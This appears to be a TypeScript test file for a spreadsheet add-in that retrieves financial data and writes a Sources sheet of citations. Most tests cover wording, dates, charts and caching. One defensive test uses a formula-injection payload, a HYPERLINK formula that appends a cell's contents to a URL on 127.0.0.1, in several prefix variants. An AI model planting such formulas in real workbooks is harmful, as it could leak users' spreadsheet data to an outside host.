import { asOfWords } from "../../../src/contract/as-of";
import { CODES } from "../../../src/contract/codes";
import { serialOf } from "../../../src/contract/dates";
import { seriesOf } from "../../../src/contract/series";
import { createCallLog } from "../../../src/core/call-log";
import { type Answer, failed, type Outcome } from "../../../src/core/outcome";
import { formulaOf, type Question, readPathQuestion } from "../../../src/core/question";
import { cellDifference } from "../../../src/pane/inspect/call-view";
import { citationOf } from "../../../src/pane/inspect/citation";
import { drawnSpan, readHistory, withGaps } from "../../../src/pane/inspect/history";
import { chartableOf, seriesHistory } from "../../../src/pane/inspect/history-source";
import { referencesIn } from "../../../src/pane/inspect/plain-cell";
import { sourcesWorkOf, writeSources } from "../../../src/pane/inspect/sources-sheet";
import type { Fetched } from "../../../src/tables/read-table";
import type { PaneHost } from "../../../src/pane/pane-host";
import { componentWords, exactValue, formattedValue, percentWords } from "../../../src/pane/words/values-in-words";
import { type Workbook } from "../../../src/pane/workbook";
import type { Content } from "../../../src/workbook/edits/sheet-edits";
import { WorkbookRefusal } from "../../../src/workbook/workbook-refusal";
import { durationWords, publicWords, valueWords, whyWords } from "../../../src/sources/answer-words";
import { cellsText, sourcesBlock } from "../../../src/sources/sources-block";
import { memoryText, type TableMemory } from "../../../src/tables/memory";
import type { CellPlace, FormulaCell } from "../../../src/workbook/cell";
import { asking, questionOf } from "../core/question-of";

const ofSeries = (id: string) => seriesHistory(seriesOf(id)!);
const NOW = Date.UTC(2024, 5, 28, 12);
const TEN = asking("YIELD", "10Y", "2024-06-19");
const answer = (more: Partial<Answer> = {}): Answer => ({
  value: 4.25,
  unit: "%",
  observationDate: "2024-06-18",
  asOf: "2024-06-28T12:00:00Z",
  source: "treasury",
  attribution: "U.S. Department of the Treasury, daily par yield curve rates",
  caveats: ["yield_curve_partial_is_partial"],
  sample: false,
  maxAgeS: 3600,
  receivedAt: NOW,
  ...more,
});
const reason: Partial<Answer> = { value: null, code: "no_curve", reason: "no curve is loaded for 1950-01-01" };

const twoLengths: Partial<Answer> = { value: null, code: "no_price", reason: "no price for ACME", explanation: "No price is known for ACME." };

it.each([
  [{ value: 6_661_912, unit: "$M", observationDate: "2025-07-09", source: "board" }, "6,661,912 USD million of 2025-07-09, from board"],
  [{ value: 40, weight: 0.4117647, contribution: 16.470588, direction: "bull", source: "sec" }, "40 bull, weight 41.2 %, adds 16.470588, from sec"],
  [{ value: 1, sample: true, source: "sample" }, "1, sample data"],
  [{ absent: "no reports are loaded" }, "not included: no reports are loaded"],
])("a component of a computed value in words: %j is %s", (given, words) => {
  expect(componentWords({ name: "a", sample: false, ...given })).toBe(words);
});

describe("when a value became public, in words", () => {
  it.each([
    ["stated", "2024-05-15 08:30 New York, stated by the publisher"],
    ["rule", "2024-05-15 08:30 New York, by the release rule"],
    ["late bound", "2024-05-15 08:30 New York at the latest"],
    ["first seen", "2024-05-15 08:30 New York, when the service first saw it"],
  ] as const)("%s is %s", (basis, words) => {
    expect(publicWords({ at: "2024-05-15T12:30Z", basis })).toBe(words);
    expect(publicWords({ at: "2024-05-15T12:30:00Z", basis })).toBe(words);
  });

  it("the end of a day in New York is that day, in summer and in winter, and midnight is a time", () => {
    const words = (at: string) => publicWords({ at, basis: "stated" }, "user");
    expect(words("2024-05-16T03:59:59Z")).toBe("the end of 2024-05-15 in New York, stated in your file");
    expect(words("2024-01-16T04:59:59Z")).toBe("the end of 2024-01-15 in New York, stated in your file");
    expect(words("2024-05-16T04:00Z")).toBe("2024-05-16 00:00 New York, stated in your file");
    expect(words("2024-05-16")).toBe("2024-05-16, stated in your file");
  });
});

describe("an answer in words", () => {
  it.each([
    [{ value: 4.25, unit: "%" }, "4.25 %"],
    [{ value: 7231456, unit: "$M" }, "7,231,456 USD million"],
    [{ value: 0.1 + 0.2 }, "0.3"],
    [{ value: 5.31, unit: "EUR/shares" }, "5.31 EUR per share"],
    [{ value: true }, "TRUE"],
    [{ value: "bull" }, "bull"],
    [{ value: null, reason: "not stated" }, "n/a: not stated"],
  ] as const)("%j is %s", (given, words) => {
    expect(valueWords(given)).toBe(words);
  });

  it.each([
    [{ value: 39.6554, unit: "ratio" }, "39.66", "39.6554"],
    [{ value: 273.5, unit: "USD" }, "273.50 USD", undefined],
    [{ value: 2, unit: "%" }, "2.00%", undefined],
    [{ value: 0.0125, unit: "% per interval" }, "0.0125% per interval", undefined],
    [{ value: -0.25, unit: "pp" }, "-0.25 percentage points", undefined],
    [{ value: 7231456, unit: "$M" }, "7,231,456 USD million", undefined],
    [{ value: 1234567.89, unit: "USD" }, "1,234,568 USD", "1234567.89"],
    [{ value: 12, unit: "count" }, "12", undefined],
    [{ value: 0.00004, unit: "USD" }, "0.00004 USD", undefined],
    [{ value: 1.5 }, "1.5", undefined],
    [{ value: "2025-12-30" }, "2025-12-30", undefined],
    [{ value: null, unit: "%", reason: "not stated" }, "n/a: not stated", undefined],
  ] as const)("%j shows as %s in the format of its unit, and exactly as %s", (given, words, exact) => {
    expect([formattedValue(given), exactValue(given)]).toEqual([words, exact]);
  });

  it("says of a percentage that a formula divides it by 100", () => {
    expect(percentWords({ value: 4.14, unit: "%" })).toBe("The number is 4.14, not 0.0414: divide it by 100 before you multiply an amount by it.");
    expect([percentWords({ value: 4.14, unit: "USD" }), percentWords({ value: null, unit: "%" })]).toEqual([undefined, undefined]);
  });

  it("explains a missing value in full, else by its code", () => {
    expect(whyWords(answer(twoLengths))).toBe("No price is known for ACME.");
    expect(whyWords(answer(reason))).toBe(CODES.no_curve.meaning);
    expect(whyWords(answer({ ...reason, code: "code_of_a_newer_service" }))).toBeUndefined();
    expect(whyWords(answer())).toBeUndefined();
  });

  it.each([
    [20_000, "less than a minute"],
    [60_000, "1 minute"],
    [3_599_000, "59 minutes"],
    [25 * 3_600_000, "1 day"],
    [40 * 86_400_000, "40 days"],
    [100 * 86_400_000, "3 months"],
    [900 * 86_400_000, "2 years"],
  ])("%i milliseconds are %s", (ms, words) => {
    expect(durationWords(ms)).toBe(words);
  });

  it("has the retrieval date, and its time if known", () => {
    expect(asOfWords("2024-06-28T12:00:30Z")).toBe("2024-06-28 12:00 UTC");
    expect(asOfWords("2024-06-28")).toBe("2024-06-28");
  });
});

it.each([
  ["the same number", undefined, { value: 4.25, text: "4.25" }, {}],
  ["the number as a longer text", undefined, { value: 4.25, text: "4.3" }, {}],
  ["another number", "The cell shows 4.27; the latest answer is 4.25 %.", { value: 4.27, text: "4.27" }, {}],
  ["nothing", "The cell is empty; the latest answer is 4.25 %.", { value: null, text: "" }, {}],
  ["#BUSY!", "The cell is still waiting for its answer.", { value: { error: "#BUSY!" }, text: "#BUSY!" }, {}],
  ["an error", "The cell shows #N/A; the latest answer is 4.25 %.", { value: { error: "#N/A" }, text: "#N/A" }, {}],
  ["a date by its serial number", undefined, { value: serialOf("2024-06-18") ?? 0, text: "2024-06-18" }, { value: "2024-06-18", kind: "date" as const }],
  ["the reason", undefined, { value: "n/a: no curve is loaded for 1950-01-01", text: "n/a: no curve is loaded for 1950-01-01" }, reason],
  ["#N/A for a reason", undefined, { value: { error: "#N/A" }, text: "#N/A" }, reason],
  ["the short text of the reason", undefined, { value: "n/a: no price for ACME", text: "n/a: no price for ACME" }, twoLengths],
  ["the full text of the reason", undefined, { value: "n/a: No price is known for ACME.", text: "n/a: No price is known for ACME." }, twoLengths],
  ["a value instead of the reason", "The cell shows 4.25; the latest answer is n/a: no curve is loaded for 1950-01-01.", { value: 4.25, text: "4.25" }, reason],
  [
    "a value instead of a sentence",
    "The cell shows 4.25; the latest answer is n/a: no price for ACME.",
    { value: 4.25, text: "4.25" },
    { ...twoLengths, reason: "no price for ACME." },
  ],
])("the difference between a cell and the latest answer if the cell shows %s is described as %p", (_, words, shown, more) => {
  expect(cellDifference(shown, answer(more))).toBe(words);
});

describe("a citation", () => {
  it("has value, observation date, source, retrieval time and every caveat", () => {
    expect(citationOf(formulaOf(TEN), answer())).toBe(
      '4.25 %, observation of 2024-06-18 (SERVICE.YIELD("10Y","2024-06-19")). Source: treasury. Attribution: U.S. Department of the Treasury, daily par yield curve rates. ' +
        "Retrieved 2024-06-28 12:00 UTC; received 2024-06-28 12:00 UTC. " +
        "Caveat: The curve has eleven tenors. A tenor that was not published is missing: it is not interpolated or carried forward.",
    );
  });

  it("begins with the name of the figure, and heads several caveats as such", () => {
    expect(citationOf(formulaOf(TEN), answer({ caveats: [...answer().caveats, "tic_lag"] }), "Treasury yield, 10Y")).toMatch(
      /^Treasury yield, 10Y: 4\.25 %, observation of 2024-06-18.* Caveats: The curve has eleven/,
    );
  });

  it("says not to quote sample data, and explains a missing value", () => {
    expect(citationOf(formulaOf(TEN), answer({ sample: true, ...reason }))).not.toContain("Sample data");
    const sample = { sample: true, source: "sample", attribution: "Sample data generated by this service." };
    expect(citationOf(formulaOf(TEN), answer(sample)).match(/Sample data/g)).toHaveLength(1);
    expect(citationOf(formulaOf(TEN), answer({ sample: true }))).toContain("Sample data: generated, not published; do not quote.");
    expect(citationOf(formulaOf(TEN), answer(reason))).toContain("n/a: no curve is loaded for 1950-01-01");
    expect(citationOf(formulaOf(TEN), answer(twoLengths))).toContain("n/a: No price is known for ACME.");
  });
});

/** A host without a key, whose service replies with this. */
const replying = (body: unknown) =>
  ({ now: () => NOW, asOf: () => undefined, connection: () => ({ kind: "none" }), fetch: async () => ({ ok: true, body }) }) as unknown as PaneHost;
const EVER = { from: undefined, to: undefined };

describe("the charted series", () => {
  it.each([
    ['FRED("DGS10")', "DGS10", undefined, asking("FRED", "DGS10")],
    ["FREDH with a date", "T10Y2Y", undefined, asking("FREDH", "t10y2y", "2024-06-25")],
    ["YIELD with a date", "DGS10", { tenor: "10Y", date: "2024-06-19" }, TEN],
    ['YIELD("AS_OF")', "DGS10", { tenor: "10Y", date: null }, asking("YIELD", "AS_OF")],
    ['MMRATE("SOFR")', "SOFR", undefined, asking("MMRATE", "SOFR")],
  ])("of %s is %s", (_, id, curve, asked) => {
    expect(chartableOf(asked)?.series?.id).toBe(id);
    expect(chartableOf(asked)?.curve).toEqual(curve);
  });

  it("is undefined if the question has no series", () => {
    expect(chartableOf(asking("SIGNAL", "AAPL"))).toBeUndefined();
    expect(chartableOf(asking("SHORTINTEREST", "GME", "confidence"))).toBeUndefined();
    expect(chartableOf(asking("FRED", "NOPE"))).toBeUndefined();
    expect(chartableOf(asking("YIELD", "4Y"))).toBeUndefined();
    expect(chartableOf(questionOf(readPathQuestion("AAPL", "signal")))).toBeUndefined();
  });
});

describe("the history of a company's figure", () => {
  const [prices, annual] = [
    { ticker: "AAPL", start: "2024-01-01" },
    { ticker: "AAPL", periods: "annual" },
  ];
  it.each([
    ["PRICE", asking("PRICE", "aapl"), "price AAPL", "daily", "prices", prices],
    ["a price by path", questionOf(readPathQuestion("AAPL", "price")), "price AAPL", "daily", "prices", prices],
    ["SHORTINTEREST", asking("SHORTINTEREST", "GME", "days"), "short interest GME days_to_cover", "twice a month", "short-interest", { ticker: "GME" }],
    ["FIN", asking("FIN", "AAPL", "revenue", "FY2023"), "statement AAPL revenue annual", "yearly", "statements", annual],
    [
      "FIN adjusted for splits",
      asking("FIN", "AAPL", "eps_diluted", "FY2023", "split_adjusted"),
      "statement AAPL eps_diluted annual split_adjusted",
      "yearly",
      "statements",
      annual,
    ],
    [
      "FIN of a quarter",
      asking("FIN", "AAPL", "revenue", "2023Q3"),
      "statement AAPL revenue quarterly",
      "quarterly",
      "statements",
      { ...annual, periods: "quarterly" },
    ],
  ])("of %s is read and can be inserted as a table", (_, question, id, frequency, kind, asked) => {
    const history = chartableOf(question, "USD")?.history;
    expect([history?.id, history?.frequency, history?.table("2024-01-01")]).toEqual([id, frequency, { kind, asked }]);
  });

  it("that has all its rows in one reply is limited to the chosen days, and sorted", async () => {
    const rows = [
      { period_end: "2023-09-30", figures: [{ metric: "revenue", value: 3 }] },
      { period_end: "2021-09-25", figures: [{ metric: "revenue", value: 1 }] },
      { period_end: "2022-09-24", figures: [{ metric: "revenue", value: null }] },
    ];
    const host = replying({ data: rows, count: 30 });
    const history = chartableOf(asking("FIN", "AAPL", "revenue"), "USD")!.history;
    const all = await readHistory(host, history, EVER);
    expect(all.ok && all.value.points).toEqual([
      { date: "2021-09-25", value: 1 },
      { date: "2023-09-30", value: 3 },
    ]);
    const some = await readHistory(host, history, { from: "2022-01-01", to: undefined });
    expect(some.ok && some.value.points).toEqual([{ date: "2023-09-30", value: 3 }]);
  });
});

describe("the history of a series", () => {
  it("joins days across weekends and holidays, and has a gap where observations are missing", () => {
    const point = (date: string, value: number) => ({ date, value });
    const daily = [point("2024-06-14", 1), point("2024-06-17", 2), point("2024-07-05", 3)];
    expect(withGaps(daily, "daily").ys).toEqual([1, 2, null, 3]);
    expect(withGaps(daily, "daily").at.map((p) => p?.date)).toEqual(["2024-06-14", "2024-06-17", undefined, "2024-07-05"]);
    expect(withGaps([point("2024-01-01", 1), point("2024-02-01", 2), point("2024-04-01", 3)], "monthly").ys).toEqual([1, 2, null, 3]);
    expect(withGaps([point("2024-01-01", 1), point("2024-04-01", 2)], "quarterly").ys).toEqual([1, 2]);
  });

  it("of one year ends on the newest day, or surrounds an older observation", () => {
    expect(drawnSpan("1Y", "2024-06-28", "2024-06-18")).toEqual({ from: "2023-06-28", to: undefined });
    expect(drawnSpan("1Y", "2024-06-28", "2008-10-10")).toEqual({ from: "2008-04-10", to: "2009-04-11" });
    expect(drawnSpan("Max", "2024-06-28", "2008-10-10")).toEqual({ from: undefined, to: undefined });
  });

  it("is fetched in pages back to its start and cached, but a failure is not cached", async () => {
    const days = Array.from({ length: 12_000 }, (_, i) => ({ date: new Date(Date.UTC(1980, 0, 1 + i)).toISOString().slice(0, 10), value: i }));
    const asked: string[] = [];
    let away = false;
    let asOf: string | undefined;
    const host = {
      now: () => NOW,
      asOf: () => asOf,
      connection: () => ({ kind: "connected", baseUrl: "https://service.test", place: "memory" }),
      fetch: async (path: string): Promise<Fetched> => {
        asked.push(path);
        if (away) return { ok: false, message: "The service cannot be reached." };
        const to = new URL(path, "https://service.test").searchParams.get("to") ?? "9999-12-31";
        const range = days.filter((d) => d.date <= to);
        return { ok: true, body: { data: range.slice(-5000), count: range.length, meta: { sample: false, attribution: { treasury: "The Treasury" } } } };
      },
    } as unknown as PaneHost;
    const first = await readHistory(host, ofSeries("DGS10"), EVER);
    expect(first.ok && first.value.points).toEqual(days);
    expect(first.ok && first.value.attribution).toEqual(["The Treasury"]);
    expect(asked).toHaveLength(3);
    await readHistory(host, ofSeries("DGS10"), EVER);
    expect(asked).toHaveLength(3);
    away = true;
    expect(await readHistory(host, ofSeries("DGS2"), EVER)).toEqual({ ok: false, message: "The service cannot be reached." });
    away = false;
    expect((await readHistory(host, ofSeries("DGS2"), EVER)).ok).toBe(true);
    const momentsOf = () => asked.splice(0).map((path) => new URL(path, "https://service.test").searchParams.get("as_of"));
    momentsOf();
    asOf = "2024-05-02";
    for (let i = 0; i < 2; i++) expect((await readHistory(host, ofSeries("DGS10"), EVER)).ok).toBe(true);
    expect(momentsOf()).toEqual(["2024-05-02", "2024-05-02", "2024-05-02"]);
    asOf = undefined;
    await readHistory(host, ofSeries("DGS10"), EVER);
    expect(momentsOf()).toEqual([]);
  });

  it("leaves out invalid points, and is refused if the reply is broken", async () => {
    const valid = { date: "2024-06-18", value: 4.2 };
    const data = [valid, { date: "2024-06-19", value: null }, { date: "never", value: 1 }];
    const read = await readHistory(replying({ data, count: 3 }), ofSeries("DGS10"), EVER);
    expect(read.ok && read.value.points).toEqual([valid]);
    expect((await readHistory(replying("nothing"), ofSeries("DGS10"), EVER)).ok).toBe(false);
  });
});

const home: CellPlace = { sheet: "Sheet1", row: 4, column: 1 };

it("the cells that a formula refers to include cells of other sheets and of ranges, but no addresses inside quoted text", () => {
  const places = referencesIn("=B2*'My Sheet'!$C$3+SUM(D1:D3)+LEN(\"E9\")+LOG10(2)+B2", home);
  expect(places).toEqual([
    { sheet: "Sheet1", row: 1, column: 1 },
    { sheet: "My Sheet", row: 2, column: 2 },
    { sheet: "Sheet1", row: 0, column: 3 },
    { sheet: "Sheet1", row: 1, column: 3 },
    { sheet: "Sheet1", row: 2, column: 3 },
  ]);
  expect(referencesIn("=SUM(A1:A100000)", home).length).toBeLessThanOrEqual(200);
});

describe("the rows of the Sources sheet", () => {
  const cells = [1, 2, 3].map((row) => ({ sheet: "Sheet1", row, column: 1 }));

  it("are one per figure, with value, dates, source, attribution and caveats", () => {
    const rows = sourcesBlock([{ question: TEN, cells, answer: answer(), why: undefined }], "The whole workbook", NOW);
    expect(rows).toHaveLength(5);
    expect(new Set(rows.map((row) => row.length))).toEqual(new Set([12]));
    expect(rows[1]?.[0]).toContain("The whole workbook: 1 question in 3 cells, written 2024-06-28 12:00 UTC.");
    expect(rows[4]).toEqual([
      "Treasury yield, 10Y, 19 Jun 2024",
      "Sheet1!B2:B4",
      'SERVICE.YIELD("10Y","2024-06-19")',
      4.25,
      "%",
      "2024-06-18",
      "2024-06-28 12:00 UTC",
      "treasury",
      "U.S. Department of the Treasury, daily par yield curve rates",
      "The curve has eleven tenors. A tenor that was not published is missing: it is not interpolated or carried forward.",
      "no",
      "2024-06-28 12:00 UTC",
    ]);
  });

  it("warn of sample data", () => {
    const warning = (...answers: readonly Answer[]): unknown =>
      sourcesBlock(
        answers.map((a) => ({ question: TEN, cells, answer: a, why: undefined })),
        "One sheet",
        NOW,
      )[2]?.[0];
    expect(warning(answer({ sample: true }), answer())).toBe("SAMPLE DATA: 1 row is generated, not published. Do not quote such figures.");
    expect(warning(answer({ sample: true, ...reason }), answer())).toBe("");
  });

  it("list the cells of a question as ranges, in fewer than 500 characters", () => {
    expect(cellsText([...cells, { sheet: "My Sheet", row: 0, column: 0 }])).toBe("Sheet1!B2:B4, My Sheet!A1");
    const scattered = Array.from({ length: 10_000 }, (_, i) => ({ sheet: "Sheet1", row: 2 * i, column: 0 }));
    expect(cellsText(scattered)).toMatch(/ and \d+ more$/);
    expect(cellsText(scattered).length).toBeLessThan(500);
  });
});

const known: Answer = { value: 1, caveats: [], sample: false, maxAgeS: 60, receivedAt: NOW, source: "treasury" };

interface Book {
  readonly host: PaneHost;
  readonly asked: Question[];
  readonly sheets: Map<string, readonly (readonly Content[])[]>;
  readonly settings: Map<string, string>;
}

/** A book with these formulas in column A, and a service with these answers. */
function book(formulas: readonly string[], options: { answers?: (question: Question) => Outcome; last?: Answer; refuse?: string; asOf?: string } = {}): Book {
  const asked: Question[] = [];
  const sheets: Book["sheets"] = new Map();
  const settings = new Map<string, string>();
  const cells: FormulaCell[] = formulas.map((formula, row) => ({ sheet: "Sheet1", row, column: 0, formula, value: 1, text: "1" }));
  const workbook = {
    serviceCells: async () => cells,
    shown: async (places: readonly { sheet: string }[]) =>
      places.map(({ sheet }) => {
        if (sheet !== "Sheet1" && !sheets.has(sheet)) throw new WorkbookRefusal(`There is no sheet ${sheet}.`);
        return { value: sheets.get(sheet)?.[0]?.[0] ?? null, text: "" };
      }),
    writeSheet: async (name: string, rows: readonly (readonly Content[])[], how?: { replace?: boolean }) => {
      if (options.refuse) throw new WorkbookRefusal(options.refuse);
      const free = !how?.replace && sheets.has(name) ? `${name} 2` : name;
      sheets.set(free, rows);
      return free;
    },
    settings: { read: (name: string) => settings.get(name), write: async (name: string, text: string) => void settings.set(name, text) },
  } as unknown as Workbook;
  const host = {
    now: () => NOW,
    asOf: () => options.asOf,
    workbook: () => workbook,
    onChange: () => () => undefined,
    cells: {
      callLog: createCallLog(),
      last: () => options.last,
      ask: async (question: Question) => {
        asked.push(question);
        return options.answers?.(question) ?? { kind: "answer", answer: known };
      },
    },
  } as unknown as PaneHost;
  return { host, asked, sheets, settings };
}

/** What the writing of the sources says. */
async function written(host: PaneHost): Promise<string> {
  const ended = await writeSources(host, "workbook");
  return ended.kind === "done" ? ended.result.message : ended.kind === "failed" ? ended.message : ended.kind;
}

describe("writing the sources of a workbook to a sheet", () => {
  it("lists the tables of the workbook too, with their question, rows and sources", async () => {
    const { host, sheets, settings } = book([], { asOf: "2024-06-20" });
    const memory: TableMemory = {
      id: "t1",
      kind: "history",
      asked: { series: "DGS10", start: "2024-06-17", end: "" },
      orientation: "down",
      notes: ["Treasury constant maturity, 10 years (DGS10)", "SAMPLE DATA, not real."],
      gone: [],
      at: NOW,
      sample: true,
      columns: [{ id: "date", heading: "Date", key: true }],
      rows: [[45_460], [45_461]],
    };
    settings.set("service.tables", "t1 t2");
    settings.set("service.table.t1", memoryText(memory));
    settings.set("service.table.t2", memoryText({ ...memory, id: "t2" }));
    Object.assign(host.workbook()!, {
      blocks: {
        find: async (names: string[]) =>
          names.map((name) => (name === "_service_table_t1" ? { sheet: "Rates", row: 2, column: 0, rows: 3, columns: 1 } : undefined)),
      },
    });
    expect(await written(host)).toBe("Written to the sheet Sources: 1 row.");
    expect(sheets.get("Sources")?.[1]?.[0]).toContain("The whole workbook as of 2024-06-20: 0 questions in 0 cells and 1 table");
    expect(sheets.get("Sources")?.[2]?.[0]).toContain("SAMPLE DATA: 1 row is generated");
    expect(sheets.get("Sources")?.[4]).toEqual([
      "Table",
      "Rates!A3:A5",
      "History of a series: Series DGS10, Start 2024-06-17",
      "2 rows",
      "",
      "",
      "",
      "",
      "SAMPLE DATA, not real.",
      "",
      "yes",
      "2024-06-28 12:00 UTC",
    ]);
  });

  it("writes one row per figure, and fetches only questions without a cached answer", async () => {
    const { host, asked, sheets } = book(['=SERVICE.FRED("DGS10")', '=SERVICE.FRED("dgs10")*2', '=SERVICE.FRED("DGS2")']);
    expect(await written(host)).toBe("Written to the sheet Sources: 2 rows.");
    expect(asked).toHaveLength(2);
    expect(
      sheets
        .get("Sources")
        ?.slice(4)
        .map((row) => row[1]),
    ).toEqual(["Sheet1!A1:A2", "Sheet1!A3"]);
    const all = book(['=SERVICE.FRED("DGS10")'], { last: known });
    await written(all.host);
    expect(all.asked).toEqual([]);
  });

  it("writes the 2,500 questions of 10,000 cells, and reports progress", async () => {
    const { host, asked, sheets } = book(Array.from({ length: 10_000 }, (_, i) => `=SERVICE.PRICE("T${i % 2_500}")`));
    const totals: (number | undefined)[] = [];
    const work = sourcesWorkOf(host);
    work.onChange(() => totals.push(work.state().working?.of));
    await written(host);
    expect(asked).toHaveLength(2_500);
    expect(sheets.get("Sources")).toHaveLength(2_504);
    expect(totals).toContain(2_500);
    expect(work.state()).toMatchObject({ result: { sheet: "Sources" } });
  });

  it("replaces the Sources sheet that it wrote before, but no other sheet of that name", async () => {
    const own = book(['=SERVICE.FRED("DGS10")']);
    await written(own.host);
    await written(own.host);
    expect([...own.sheets.keys()]).toEqual(["Sources"]);
    own.sheets.set("Sources", [["My own notes"]]);
    await written(own.host);
    expect([...own.sheets.keys()]).toEqual(["Sources", "Sources 2"]);
    expect(own.sheets.get("Sources")).toEqual([["My own notes"]]);
    own.sheets.delete("Sources 2");
    expect(await written(own.host)).toContain("Sources 2");
  });

  it("writes no text of the service that a spreadsheet would read as a formula", async () => {
    const evil = '=HYPERLINK("http://127.0.0.1/?"&A1)';
    for (const sign of ["=", "+", "-", "@", "\t=", "\r\n=", "\uff1d"]) {
      const text = `${sign}${evil.slice(1)}`;
      const answer: Answer = { ...known, value: text, unit: text, observationDate: text, asOf: text, source: text, attribution: text, caveats: [text] };
      for (const answers of [() => ({ kind: "answer" as const, answer }), () => failed({ code: "argument", message: text })]) {
        const { host, sheets } = book(['=SERVICE.FRED("DGS10")'], { answers });
        await written(host);
        const cells = sheets.get("Sources")?.flat() ?? [];
        expect(cells.length).toBeGreaterThan(40);
        for (const cell of cells) expect(cell).not.toMatch(/^\s*[=+\-@\uff1d]/);
      }
    }
  });

  it("explains each missing answer in its row, and counts them in a sentence", async () => {
    const { host, sheets } = book(['=SERVICE.FRED("DGS10")'], { answers: () => failed({ code: "timeout" }) });
    expect(await written(host)).toContain("No answer in 1 row; the Value column says why.");
    expect(sheets.get("Sources")?.[4]?.[3]).toBe("no answer: The service did not answer in time. Press Refresh.");
  });

  it("writes nothing and says why if there is no known question or the workbook is protected", async () => {
    const none = book([]);
    expect(await written(none.host)).toContain("No SERVICE formulas");
    const calculated = book(["=SERVICE.PRICE(A1&B1)"]);
    expect(await written(calculated.host)).toContain("not known yet");
    const refused = book(['=SERVICE.FRED("DGS10")'], { refuse: "The workbook's structure is protected. Unprotect it, then write the sources." });
    expect(await written(refused.host)).toBe("The workbook's structure is protected. Unprotect it, then write the sources.");
    for (const { sheets } of [none, calculated, refused]) expect(sheets.size).toBe(0);
  });

  it("can be stopped, and does not start again while it runs", async () => {
    const { host, sheets } = book(['=SERVICE.FRED("DGS10")']);
    const first = written(host);
    const second = written(host);
    sourcesWorkOf(host).stop();
    expect([await first, await second]).toEqual(["stopped", "stopped"]);
    expect(sheets.size).toBe(0);
    expect(await written(host)).toContain("Written");
  });
});
